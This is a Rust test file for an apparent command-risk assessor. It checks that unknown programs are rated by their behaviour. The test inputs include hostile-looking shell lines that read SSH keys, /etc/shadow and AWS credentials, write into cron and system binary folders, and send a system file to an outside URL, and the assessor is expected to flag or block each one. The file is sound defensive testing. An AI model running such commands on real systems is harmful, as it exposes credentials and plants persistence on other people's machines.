//! Issue 26, behaviour over tool: a program the tool table does not describe is not assumed
//! harmless. Every program name here is made up, so nothing but the fallback can rate it.

use airlock_assessor::Engine;
use airlock_protocol::assessment::{Assessment, Level};
use airlock_protocol::request::{Language, Origin};

fn assess(code: &str, language: Language) -> Assessment {
    Engine::builtin()
        .expect("built-in rules load")
        .assess(code.as_bytes(), language, Origin::External)
}

fn ids(a: &Assessment) -> Vec<&str> {
    a.findings.iter().map(|f| f.rule_id.as_str()).collect()
}

#[test]
fn an_unknown_programs_paths_are_read() {
    for code in [
        "frobctl --dump ~/.ssh/id_ed25519",
        "zentool export --input=/etc/shadow --format json",
        "quux -k ~/.aws/credentials",
    ] {
        let a = assess(code, Language::Bash);
        assert!(
            ids(&a).contains(&"AIR-BEHAVIOUR-READ-CREDENTIALS"),
            "{code}: {:?}",
            ids(&a)
        );
        assert!(a.level >= Level::High, "{code}: {}", a.level);
    }
    let from_python = assess(
        "import subprocess\nsubprocess.run(['frobctl', '--dump', '/root/.ssh/id_rsa'])\n",
        Language::Python,
    );
    assert!(from_python.level >= Level::High, "{:?}", ids(&from_python));
}

#[test]
fn an_output_option_or_the_last_of_several_paths_is_written() {
    let cron = assess("qzsync push ./task.cron /etc/cron.d/task", Language::Bash);
    assert_eq!(cron.level, Level::Blocked, "{:?}", ids(&cron));
    let output = assess("blorp --output=/usr/local/bin/helper build/out.o", Language::Bash);
    assert!(
        ids(&output).contains(&"AIR-BEHAVIOUR-WRITE-SYSTEM"),
        "{:?}",
        ids(&output)
    );
    let short = assess("blorp -o /usr/local/bin/helper build/out.o", Language::Bash);
    assert!(ids(&short).contains(&"AIR-BEHAVIOUR-WRITE-SYSTEM"), "{:?}", ids(&short));
}

#[test]
fn local_paths_beside_a_url_may_be_sent() {
    let a = assess("snarfup /etc/hosts https://collect.example.com/u", Language::Bash);
    assert_eq!(a.level, Level::Blocked, "{:?}", ids(&a));
}

#[test]
fn inline_code_for_an_unknown_interpreter_asks_a_human() {
    let a = assess("wibble -e 'system(\"id\")'", Language::Bash);
    assert!(a.unanalysed, "{:?}", ids(&a));
    assert!(ids(&a).contains(&"AIR-UNKNOWN-INTERPRETER"), "{:?}", ids(&a));
}

#[test]
fn privilege_in_front_of_an_unknown_program_is_privilege() {
    let a = assess("sudo zorpctl --apply", Language::Bash);
    assert!(a.level >= Level::High, "{:?}", ids(&a));
}

#[test]
fn ordinary_use_of_unknown_programs_stays_low() {
    for code in [
        "frobctl --dump ./state.json",
        "blorp -o ./out/bin build/out.o",
        "wibble -e production",
        "snarfup ./a.txt ./b.txt",
        "quux --verbose --config=config/app.yaml",
        "zentool https://api.example.com/v1/items",
    ] {
        let a = assess(code, Language::Bash);
        assert!(
            a.level <= Level::Medium && !a.unanalysed,
            "{code}: {} {:?}",
            a.level,
            ids(&a)
        );
    }
}
